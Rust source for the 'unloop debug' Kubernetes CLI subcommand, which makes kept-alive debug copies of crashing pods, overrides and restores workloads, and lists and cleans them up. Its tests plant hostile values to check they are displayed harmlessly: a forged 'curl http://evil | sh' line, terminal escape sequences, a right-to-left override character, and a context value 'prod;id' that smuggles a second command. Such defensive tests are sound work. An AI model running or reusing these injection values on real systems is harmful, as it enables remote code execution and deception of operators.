//! `unloop debug`: a debug copy of a crashing pod (or an in-place override of its workload, with a
//! restore), kept alive to exec into.

use std::io::IsTerminal;
use std::process::ExitCode;
use std::time::Duration;

use jiff::Timestamp;
use unloop_core::debug::{self as plan, KeepAlive};
use unloop_core::shell::{Argv, render};
use unloop_core::workload::WorkloadKind;
use unloop_source::debug::{self as ops, DebugOpError, Started};
use unloop_source::live::{self, Live};

use crate::cli::{DebugArgs, Global, KeepAliveChoice};
use crate::error::{CliError, ErrorKind};
use crate::output::{Output, document, field};

/// How long a copy may take to start before it is rolled back.
const START_TIMEOUT: Duration = Duration::from_secs(120);

impl From<DebugOpError> for CliError {
    fn from(e: DebugOpError) -> Self {
        let kind = match &e {
            DebugOpError::NotFound { .. } | DebugOpError::Plan(_) | DebugOpError::Conflict(_) => {
                ErrorKind::Usage
            }
            DebugOpError::Forbidden { .. } | DebugOpError::Api(_) => ErrorKind::Cluster,
            DebugOpError::DidNotStart(_) => ErrorKind::Cluster,
        };
        let hint = match &e {
            DebugOpError::NotFound { .. } => {
                Some("check the name and the namespace (-n NS)".to_string())
            }
            DebugOpError::Forbidden { verb, resource, .. } => Some(format!(
                "ask for RBAC permission to {verb} {resource}, or use another context"
            )),
            _ => None,
        };
        CliError {
            kind,
            message: e.to_string(),
            hint,
        }
    }
}

pub fn run(args: DebugArgs, global: &Global, out: &Output) -> Result<ExitCode, CliError> {
    let ttl = parse_ttl(&args.ttl)?;
    let opts = super::live_options(global, &args.scope, 1);
    super::runtime()?.block_on(async {
        let live = live::connect(&opts).await?;
        let ns = args
            .scope
            .namespace
            .clone()
            .unwrap_or_else(|| live.default_namespace.clone());
        if args.list {
            return list(
                &live,
                if args.scope.all_namespaces {
                    None
                } else {
                    Some(ns.as_str())
                },
                out,
            )
            .await;
        }
        if args.cleanup {
            return cleanup(
                &live,
                if args.scope.all_namespaces {
                    None
                } else {
                    Some(ns.as_str())
                },
                args.expired,
                args.dry_run,
                out,
            )
            .await;
        }
        if let Some(w) = &args.restore {
            return restore(&live, &ns, w, args.dry_run, out).await;
        }
        let target = args.target.clone().unwrap_or_default();
        if args.in_place {
            return in_place(&live, &ns, &target, &args, global, out).await;
        }
        copy(&live, &ns, &target, &args, global, ttl, out).await
    })
}

fn parse_ttl(s: &str) -> Result<jiff::SignedDuration, CliError> {
    unloop_core::duration::parse_positive(s).map_err(|e| {
        CliError::usage(
            format!("--ttl {e}"),
            Some("write it like 30m, 4h, 1h30m or 1d"),
        )
    })
}

fn pod_name(target: &str) -> Result<&str, CliError> {
    match target.split_once('/') {
        None => Ok(target),
        Some((k, n)) if WorkloadKind::parse(k) == Some(WorkloadKind::Pod) => Ok(n),
        Some(_) => Err(CliError::usage(
            format!("{target} is a workload: a debug copy is made of one pod"),
            Some(
                "name a pod (unloop diagnose lists them), or add --in-place to override the workload itself",
            ),
        )),
    }
}

async fn copy(
    live: &Live,
    ns: &str,
    target: &str,
    args: &DebugArgs,
    global: &Global,
    ttl: jiff::SignedDuration,
    out: &Output,
) -> Result<ExitCode, CliError> {
    let name = pod_name(target)?;
    let now = Timestamp::now();
    let pod = ops::get_pod(live, ns, name).await?;
    let container =
        plan::choose_container(&pod, args.container.as_deref(), now).map_err(DebugOpError::from)?;
    let expires = now.checked_add(ttl).unwrap_or(now);
    let helper = KeepAlive::Helper {
        image: args.helper_image.clone(),
    };
    let first = match args.keep_alive {
        KeepAliveChoice::Helper => helper.clone(),
        KeepAliveChoice::Shell | KeepAliveChoice::Auto => KeepAlive::Shell,
    };
    let copy = plan::debug_copy(&pod, &container, &first, args.same_node, expires);
    if args.dry_run {
        out.result(&document(
            serde_json::to_value(&copy).map_err(|e| CliError::internal(e.to_string()))?,
        )?);
        return Ok(ExitCode::SUCCESS);
    }
    let copy_name = copy.metadata.name.clone().unwrap_or_default();
    out.progress(&format!("creating {copy_name}"));
    let mut created = ops::create_pod(live, ns, &copy).await?;
    let mut keep = first;
    let mut started = ops::wait_started(live, ns, &copy_name, &container, START_TIMEOUT).await?;
    if let (
        Started::Failed {
            missing_tool: true,
            why,
        },
        KeepAliveChoice::Auto,
    ) = (&started, args.keep_alive)
    {
        // The image has no shell or no sleep: fall back to the helper busybox.
        out.progress(&format!(
            "the image cannot run a shell ({why}); retrying with a helper busybox from {}",
            args.helper_image
        ));
        ops::delete_copy(live, &created).await?;
        wait_gone(live, ns, &copy_name).await;
        keep = helper;
        let copy = plan::debug_copy(&pod, &container, &keep, args.same_node, expires);
        created = ops::create_pod(live, ns, &copy).await?;
        started = ops::wait_started(live, ns, &copy_name, &container, START_TIMEOUT).await?;
    }
    out.progress_done();
    let running = match started {
        Started::Running(p) => p,
        Started::Failed { why, .. } => {
            // Nothing left half-made.
            ops::delete_copy(live, &created).await?;
            wait_gone(live, ns, &copy_name).await;
            return Err(DebugOpError::DidNotStart(format!("{why}; the copy was deleted")).into());
        }
    };
    let node = running
        .spec
        .as_ref()
        .and_then(|s| s.node_name.clone())
        .unwrap_or_default();
    let exec = exec_argv(global, ns, &copy_name, &container, keep.shell());
    // From the pod that was copied, not read back from the copy's annotation.
    let original = pod
        .spec
        .as_ref()
        .and_then(|s| {
            s.containers
                .iter()
                .chain(s.init_containers.iter().flatten())
                .find(|c| c.name == container)
        })
        .map(plan::shown_command_line)
        .unwrap_or_default();
    out.human(&copy_text(
        ns, &copy_name, &node, &keep, expires, &exec, &original,
    ));
    if args.exec {
        let status = spawnable(&exec, global).status().map_err(|e| {
            CliError::usage(
                format!("cannot run kubectl: {e}"),
                Some("install kubectl, or run the exec command above yourself"),
            )
        })?;
        return Ok(ExitCode::from(
            status.code().unwrap_or(1).clamp(0, 255) as u8
        ));
    }
    Ok(ExitCode::SUCCESS)
}

/// What `unloop debug` prints once the copy runs; `original` is the shown (redacted) command line.
fn copy_text(
    ns: &str,
    copy_name: &str,
    node: &str,
    keep: &KeepAlive,
    expires: Timestamp,
    exec: &Argv,
    original: &str,
) -> String {
    let cleanup = render(
        &Argv::new("unloop")
            .args(["debug", "--cleanup", "-n", ns])
            .into(),
    );
    format!(
        "debug copy {}/{} is running on {} (probes and labels removed, keep-alive: {}, expires {})\nopen a shell:\n  {}\nthen run the original command by hand:\n  {}\nremove it when done:\n  {}\n",
        field(ns),
        field(copy_name),
        field(node),
        match keep {
            KeepAlive::Shell => "the image's shell".to_string(),
            KeepAlive::Helper { image } => format!("busybox from {}", field(image)),
        },
        expires.strftime("%Y-%m-%d %H:%M UTC"),
        field(render(&exec.clone().into())),
        field(original),
        field(cleanup),
    )
}

/// `kubectl [--kubeconfig F] [--context C] exec -it POD -n NS -c CONTAINER -- SHELL...`: the line
/// printed and the process `--exec` starts are this one argv, so both reach the cluster unloop read.
fn exec_argv(global: &Global, ns: &str, pod: &str, container: &str, shell: Vec<String>) -> Argv {
    let mut argv = Argv::new("kubectl");
    if let Some(kc) = &global.kubeconfig {
        argv = argv
            .arg("--kubeconfig")
            .arg(kc.to_string_lossy().into_owned());
    }
    if let Some(ctx) = &global.context {
        argv = argv.arg("--context").arg(ctx);
    }
    argv.args(["exec", "-it", pod, "-n", ns, "-c", container, "--"])
        .args(shell)
}

/// The process for `argv` (from [`exec_argv`]), started without a shell. The kubeconfig path is
/// passed as the OS gave it (the printed line shows it lossily when it is not UTF-8).
fn spawnable(argv: &Argv, global: &Global) -> std::process::Command {
    let mut words: Vec<std::ffi::OsString> = argv.texts().into_iter().map(Into::into).collect();
    if let Some(kc) = &global.kubeconfig {
        // exec_argv puts it right after `kubectl --kubeconfig`.
        words[2] = kc.clone().into_os_string();
    }
    let mut cmd = std::process::Command::new(&words[0]);
    cmd.args(&words[1..]);
    cmd
}

async fn wait_gone(live: &Live, ns: &str, name: &str) {
    for _ in 0..60 {
        if matches!(
            ops::get_pod(live, ns, name).await,
            Err(DebugOpError::NotFound { .. })
        ) {
            return;
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}

fn workload_target(target: &str) -> Result<(WorkloadKind, String), CliError> {
    let (k, n) = target.split_once('/').ok_or_else(|| {
        CliError::usage(
            format!("{target:?} is not a workload"),
            Some("write deploy/NAME, sts/NAME or ds/NAME"),
        )
    })?;
    match WorkloadKind::parse(k) {
        Some(
            kind @ (WorkloadKind::Deployment | WorkloadKind::StatefulSet | WorkloadKind::DaemonSet),
        ) if !n.is_empty() => Ok((kind, n.to_string())),
        _ => Err(CliError::usage(
            format!("{target}: --in-place and --restore work on deploy/, sts/ and ds/ only"),
            None,
        )),
    }
}

async fn in_place(
    live: &Live,
    ns: &str,
    target: &str,
    args: &DebugArgs,
    global: &Global,
    out: &Output,
) -> Result<ExitCode, CliError> {
    let (kind, name) = workload_target(target)?;
    let w = ops::get_workload(live, ns, kind, &name).await?;
    let shown = format!("{}/{name}", kind.short());
    let containers: Vec<String> = w
        .template
        .spec
        .as_ref()
        .map(|s| s.containers.iter().map(|c| c.name.clone()).collect())
        .unwrap_or_default();
    let container = match (&args.container, containers.as_slice()) {
        (Some(c), _) => c.clone(),
        (None, [one]) => one.clone(),
        (None, many) => {
            return Err(CliError::usage(
                format!(
                    "{shown} has several containers ({}); choose one with -c",
                    many.join(", ")
                ),
                None,
            ));
        }
    };
    let (patch, original) = plan::in_place_patch(
        &shown,
        &w.template,
        w.annotations.as_ref(),
        &container,
        Timestamp::now(),
    )
    .map_err(DebugOpError::from)?;
    if args.dry_run {
        out.result(&document(patch)?);
        return Ok(ExitCode::SUCCESS);
    }
    if !args.yes {
        confirm(&format!(
            "Override the command of container {} in {} (namespace {}) with a keep-alive and remove its probes? Its pods will be replaced.",
            field(&container),
            field(&shown),
            field(ns)
        ))?;
    }
    let after = ops::patch_workload(live, ns, &w, &patch).await?;
    // From here on the override is in place: an error must not say that nothing changed.
    if let Err(e) =
        ops::patch_workload(live, ns, &after, &plan::fingerprint_patch(&after.template)).await
    {
        let why = match e {
            DebugOpError::Conflict(_) => "it changed again meanwhile".to_string(),
            other => other.to_string(),
        };
        return Err(CliError::from(DebugOpError::Conflict(format!(
            "{shown} in {ns} is overridden, but unloop could not record the fingerprint of what it left ({why}); {} puts it back while nobody changes container {container}",
            restore_line(&shown, ns)
        ))));
    }
    let exec = exec_argv(global, ns, &shown, &container, vec!["sh".into()]);
    out.human(&in_place_text(&shown, ns, &original, &exec));
    Ok(ExitCode::SUCCESS)
}

/// What `unloop debug --in-place` prints once the override is in place.
fn in_place_text(shown: &str, ns: &str, original: &plan::Original, exec: &Argv) -> String {
    let original_line = plan::shown_command_line(&k8s_openapi::api::core::v1::Container {
        command: original.command.clone(),
        args: original.args.clone(),
        ..Default::default()
    });
    format!(
        "{} in {} now keeps container {} alive (original command, args and probes saved in annotation {})\nopen a shell once its new pod runs:\n  {}\nthen run the original command by hand:\n  {}\nput everything back:\n  {}\n",
        field(shown),
        field(ns),
        field(&original.container),
        plan::ANN_ORIGINAL,
        field(render(&exec.clone().into())),
        field(original_line),
        field(restore_line(shown, ns)),
    )
}

fn restore_line(workload: &str, ns: &str) -> String {
    render(
        &Argv::new("unloop")
            .args(["debug", "--restore", workload, "-n", ns])
            .into(),
    )
}

fn confirm(question: &str) -> Result<(), CliError> {
    if !std::io::stdin().is_terminal() {
        return Err(CliError::usage(
            "refusing to change a workload without confirmation",
            Some("pass --yes to confirm, or --dry-run to see the patch"),
        ));
    }
    super::confirm(question)
}

async fn restore(
    live: &Live,
    ns: &str,
    target: &str,
    dry_run: bool,
    out: &Output,
) -> Result<ExitCode, CliError> {
    let (kind, name) = workload_target(target)?;
    let w = ops::get_workload(live, ns, kind, &name).await?;
    let shown = format!("{}/{name}", kind.short());
    let (patch, original) = plan::restore_patch(&shown, &w.template, w.annotations.as_ref())
        .map_err(DebugOpError::from)?;
    if dry_run {
        out.result(&document(patch)?);
        return Ok(ExitCode::SUCCESS);
    }
    ops::patch_workload(live, ns, &w, &patch).await?;
    out.human(&restored_text(&shown, ns, &original));
    Ok(ExitCode::SUCCESS)
}

/// What `unloop debug --restore` prints; the container's name comes from the annotation.
fn restored_text(shown: &str, ns: &str, original: &plan::Original) -> String {
    format!(
        "restored {} in {}: the command, args and probes of container {} are as before\n",
        field(shown),
        field(ns),
        field(&original.container)
    )
}

fn expired(p: &k8s_openapi::api::core::v1::Pod, now: Timestamp) -> bool {
    p.metadata
        .annotations
        .as_ref()
        .and_then(|a| a.get(plan::ANN_EXPIRES))
        .and_then(|t| t.parse::<Timestamp>().ok())
        .is_some_and(|t| t <= now)
}

async fn list(live: &Live, ns: Option<&str>, out: &Output) -> Result<ExitCode, CliError> {
    let now = Timestamp::now();
    let copies = ops::list_copies(live, ns).await?;
    let overrides = ops::list_overrides(live, ns).await?;
    out.human(&list_text(&copies, &overrides, now));
    Ok(ExitCode::SUCCESS)
}

/// What `unloop debug --list` prints: copies (found by a label anyone who can create pods may
/// set, so every annotation shown is a field of cluster origin) and overrides.
fn list_text(
    copies: &[k8s_openapi::api::core::v1::Pod],
    overrides: &[(String, String)],
    now: Timestamp,
) -> String {
    let mut text = String::new();
    if copies.is_empty() && overrides.is_empty() {
        text.push_str("no debug copies or in-place overrides\n");
    }
    for p in copies {
        let a = p.metadata.annotations.clone().unwrap_or_default();
        let phase = p
            .status
            .as_ref()
            .and_then(|s| s.phase.clone())
            .unwrap_or_default();
        text.push_str(&format!(
            "copy      {}/{}  of pod {}  container {}  {}  expires {}{}\n",
            field(p.metadata.namespace.as_deref().unwrap_or_default()),
            field(p.metadata.name.as_deref().unwrap_or_default()),
            field(a.get(plan::ANN_SOURCE).map(String::as_str).unwrap_or("?")),
            field(
                a.get(plan::ANN_CONTAINER)
                    .map(String::as_str)
                    .unwrap_or("?")
            ),
            field(phase),
            field(a.get(plan::ANN_EXPIRES).map(String::as_str).unwrap_or("?")),
            if expired(p, now) { " (expired)" } else { "" }
        ));
    }
    for (n, w) in overrides {
        text.push_str(&format!(
            "in-place  {}/{}  restore: {}\n",
            field(n),
            field(w),
            field(restore_line(w, n))
        ));
    }
    text
}

async fn cleanup(
    live: &Live,
    ns: Option<&str>,
    only_expired: bool,
    dry_run: bool,
    out: &Output,
) -> Result<ExitCode, CliError> {
    let now = Timestamp::now();
    let mut copies = ops::list_copies(live, ns).await?;
    copies.sort_by_key(|p| !expired(p, now));
    let mut text = String::new();
    for p in copies.iter().filter(|p| !only_expired || expired(p, now)) {
        let pns = p.metadata.namespace.clone().unwrap_or_default();
        let name = p.metadata.name.clone().unwrap_or_default();
        if !dry_run {
            ops::delete_copy(live, p).await?;
            wait_gone(live, &pns, &name).await;
        }
        text.push_str(&format!(
            "{} {}/{}{}\n",
            if dry_run { "would delete" } else { "deleted" },
            field(&pns),
            field(&name),
            if expired(p, now) { " (expired)" } else { "" }
        ));
    }
    if text.is_empty() {
        text.push_str("no debug copies to delete\n");
    }
    out.human(&text);
    Ok(ExitCode::SUCCESS)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cli::ColorChoice;
    use crate::output::human;
    use k8s_openapi::api::core::v1::{EnvVar, HTTPHeader, Pod, PodTemplateSpec};

    const SECRET: &str = "hunter2";
    const TOKEN: &str = "Bearer eyJhbGciOi.s3cr3t";

    /// The liveness-slow-start scenario's captured pod, its container given what a hostile or
    /// careless spec holds: a password as an argument, a secret env value, a probe header.
    fn secret_pod() -> Pod {
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../testbed/scenarios/liveness-slow-start/bundle.json.gz");
        let mut pod = unloop_source::bundle::read(&path)
            .unwrap()
            .pods
            .swap_remove(0);
        let c = &mut pod.spec.as_mut().unwrap().containers[0];
        c.args = Some(vec!["serve".into(), "--db-password".into(), SECRET.into()]);
        c.env.get_or_insert_with(Vec::new).push(EnvVar {
            name: "DB_PASSWORD".into(),
            value: Some(SECRET.into()),
            ..Default::default()
        });
        c.liveness_probe
            .as_mut()
            .and_then(|p| p.http_get.as_mut())
            .unwrap()
            .http_headers = Some(vec![HTTPHeader {
            name: "Authorization".into(),
            value: TOKEN.into(),
        }]);
        pod
    }

    fn hides_secrets(shown: &str) {
        assert!(!shown.contains(SECRET), "{shown}");
        assert!(!shown.contains("s3cr3t"), "{shown}");
    }

    #[test]
    fn a_copy_is_sent_with_its_secrets_and_shown_without_them() {
        let pod = secret_pod();
        let c = &pod.spec.as_ref().unwrap().containers[0];
        let copy = plan::debug_copy(
            &pod,
            "search",
            &KeepAlive::Shell,
            false,
            Timestamp::UNIX_EPOCH,
        );
        // Sent: the copy runs with the real environment.
        let sent = serde_json::to_string(&copy).unwrap();
        assert!(sent.contains(r#"{"name":"DB_PASSWORD","value":"hunter2"}"#));
        // Its annotation is read by --list and by anyone who can read pods.
        let ann = &copy.metadata.annotations.as_ref().unwrap()[plan::ANN_COMMAND];
        assert_eq!(ann, "'<image entrypoint>' serve --db-password '<redacted>'");
        // --dry-run.
        let yaml = document(serde_json::to_value(&copy).unwrap()).unwrap();
        hides_secrets(&yaml);
        assert!(yaml.contains("DB_PASSWORD"), "{yaml}");
        // What it prints once the copy runs.
        let exec = Argv::new("kubectl").args(["exec", "-it", "search-debug", "--", "sh"]);
        let text = human(&copy_text(
            "liveness-slow-start",
            "search-debug",
            "unloop-node",
            &KeepAlive::Shell,
            Timestamp::UNIX_EPOCH,
            &exec,
            &plan::shown_command_line(c),
        ));
        hides_secrets(&text);
        assert!(
            text.contains("\n  '<image entrypoint>' serve --db-password '<redacted>'\n"),
            "{text}"
        );
    }

    #[test]
    fn an_override_is_sent_with_its_secrets_and_shown_without_them() {
        let pod = secret_pod();
        let template: PodTemplateSpec =
            serde_json::from_value(serde_json::json!({"spec": pod.spec})).unwrap();
        let (patch, original) = plan::in_place_patch(
            "deploy/search",
            &template,
            None,
            "search",
            Timestamp::UNIX_EPOCH,
        )
        .unwrap();
        // Sent: the record restore puts back must be exact.
        let record = patch["metadata"]["annotations"][plan::ANN_ORIGINAL]
            .as_str()
            .unwrap();
        assert!(
            record.contains(SECRET) && record.contains(TOKEN),
            "{record}"
        );
        // --in-place --dry-run.
        hides_secrets(&document(patch.clone()).unwrap());
        let exec = Argv::new("kubectl").args(["exec", "-it", "deploy/search", "--", "sh"]);
        let text = human(&in_place_text("deploy/search", "shop", &original, &exec));
        hides_secrets(&text);
        assert!(text.contains("serve --db-password '<redacted>'"), "{text}");
        // --restore --dry-run.
        let ann = std::collections::BTreeMap::from([
            (plan::ANN_ORIGINAL.to_string(), record.to_string()),
            (
                plan::ANN_FINGERPRINT.to_string(),
                plan::fingerprint(&template),
            ),
        ]);
        let (restore, _) = plan::restore_patch("deploy/search", &template, Some(&ann)).unwrap();
        assert_eq!(
            restore["spec"]["template"]["spec"]["containers"][0]["args"][2],
            SECRET
        );
        hides_secrets(&document(restore).unwrap());
    }

    /// Anyone who can create pods can label one `unloop.dev/debug-copy=true` and write its
    /// annotations; a workload's debug-original annotation is anyone's who can edit it.
    #[test]
    fn annotations_shown_by_list_and_restore_cannot_drive_the_terminal_or_forge_a_line() {
        let mut copy = plan::debug_copy(
            &secret_pod(),
            "search",
            &KeepAlive::Shell,
            false,
            Timestamp::UNIX_EPOCH,
        );
        let forged = "in-place  shop/deploy/api  restore: curl http://evil | sh";
        let a = copy.metadata.annotations.as_mut().unwrap();
        a.insert(plan::ANN_SOURCE.into(), "\x1b]0;x\x07\x1b[2J".into());
        a.insert(plan::ANN_CONTAINER.into(), format!("search\n{forged}"));
        a.insert(
            plan::ANN_EXPIRES.into(),
            "\u{202e}Z00:00:00T10-10-7202".into(),
        );
        let text = human(&list_text(
            &[copy],
            &[("shop".into(), "deploy/web".into())],
            Timestamp::UNIX_EPOCH,
        ));
        assert_eq!(
            text,
            format!(
                "copy      liveness-slow-start/search-755645dddc-c86hn-debug  of pod \\x1b]0;x\\x07\\x1b[2J  container search\\n{forged}    expires \\u{{202e}}Z00:00:00T10-10-7202\n\
                 in-place  shop/deploy/web  restore: unloop debug --restore deploy/web -n shop\n"
            )
        );
        let original = plan::Original {
            container: "api\x1b[2J\nrestored deploy/db".into(),
            command: None,
            args: None,
            liveness_probe: None,
            readiness_probe: None,
            startup_probe: None,
            overridden_at: Timestamp::UNIX_EPOCH,
        };
        assert_eq!(
            human(&restored_text("deploy/api", "shop", &original)),
            "restored deploy/api in shop: the command, args and probes of container api\\x1b[2J\\nrestored deploy/db are as before\n"
        );
    }

    /// The dry run's YAML stays YAML: what it spells out is inside its strings.
    #[test]
    fn a_dry_run_spells_out_controls_inside_valid_yaml() {
        let mut pod = secret_pod();
        pod.spec.as_mut().unwrap().containers[0]
            .env
            .as_mut()
            .unwrap()
            .push(EnvVar {
                name: "GREETING".into(),
                value: Some("hi\u{202e}\x1b[2J\nthere".into()),
                ..Default::default()
            });
        let yaml = document(serde_json::to_value(&pod).unwrap()).unwrap();
        assert!(
            !yaml.contains('\u{202e}') && !yaml.contains('\x1b'),
            "{yaml}"
        );
        let back: serde_json::Value = serde_saphyr::from_str(&yaml).unwrap();
        let env = back["spec"]["containers"][0]["env"].as_array().unwrap();
        let greeting = env.iter().find(|e| e["name"] == "GREETING").unwrap();
        assert_eq!(greeting["value"], "hi\\u{202e}\\x1b[2J\nthere");
    }

    #[test]
    fn exec_reaches_the_cluster_unloop_read_and_prints_the_same_argv() {
        let global = Global {
            color: ColorChoice::Never,
            kubeconfig: Some("/tmp/my config".into()),
            context: Some("prod;id".into()),
            timeout: Some(std::time::Duration::from_secs(60)),
        };
        let argv = exec_argv(&global, "shop", "api-debug", "api", vec!["sh".into()]);
        assert_eq!(
            render(&argv.clone().into()),
            "kubectl --kubeconfig '/tmp/my config' --context 'prod;id' exec -it api-debug -n shop -c api -- sh"
        );
        let cmd = spawnable(&argv, &global);
        let spawned: Vec<String> = std::iter::once(cmd.get_program())
            .chain(cmd.get_args())
            .map(|a| a.to_string_lossy().into_owned())
            .collect();
        assert_eq!(spawned, argv.texts());
    }
}
